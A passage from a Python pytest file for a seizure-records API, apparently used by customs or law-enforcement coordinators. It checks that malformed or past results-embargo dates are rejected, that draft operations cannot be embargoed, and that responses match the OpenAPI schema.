@pytest.mark.parametrize("body, field", [
    ({"embargo_until": "30/09/2026"}, "embargo_until"),
    ({"embargo_until": "2026-05-01"}, "embargo_until"),  # already past
    ({"embargo_until": 20260930}, "embargo_until"),
    ({"embargo_until": "2026-09-30T00:00:00"}, "embargo_until"),
    ({}, "embargo_until"),
    ({"embargo_until": "2026-09-30", "reason": "x"}, "reason"),
])
def test_a_bad_embargo_is_refused(api, factory, running, body, field):
    response = api("PUT", f"/operations/{running.id}/results-embargo", factory.coordinator("LT"), json=body)
    assert_error(response, 422, field)
    db.session.refresh(running)
    assert running.results_embargo_until is None


def test_no_embargo_on_an_operation_not_yet_approved(api, factory):
    op = factory.operation_in("draft")
    response = api("PUT", f"/operations/{op.id}/results-embargo", factory.coordinator("LT"),
                   json={"embargo_until": "2026-09-30"})
    assert_error(response, 403)


# --- the answers match the OpenAPI document -------------------------------------------------------------------

def test_answers_use_only_documented_fields(api, client, factory, running):
    schemas = client.get("/api/v1/openapi.json").get_json()["components"]["schemas"]
    officer = factory.user("LT", "officer")
    body = create(api, officer, running)
    assert set(body) == set(schemas["Seizure"]["properties"])
    listed = api("GET", seizures_url(running), officer).get_json()
    assert set(listed) == set(schemas["SeizureList"]["properties"])
    comment = api("POST", f"/seizures/{body['id']}/comments", officer, json={"body": "x"}).get_json()
    assert set(comment) == set(schemas["SeizureComment"]["properties"])
    assert set(schemas["SeizureCreate"]["properties"]) == set(seizure_data()) | {
        "national_reference", "location_code", "warning_id", "concealment_details", "modus_operandi",
        "share_with_eu_member_states", "share_with_third_countries", "share_with_agencies", "public_statistics",
        "embargo_until", "status"}
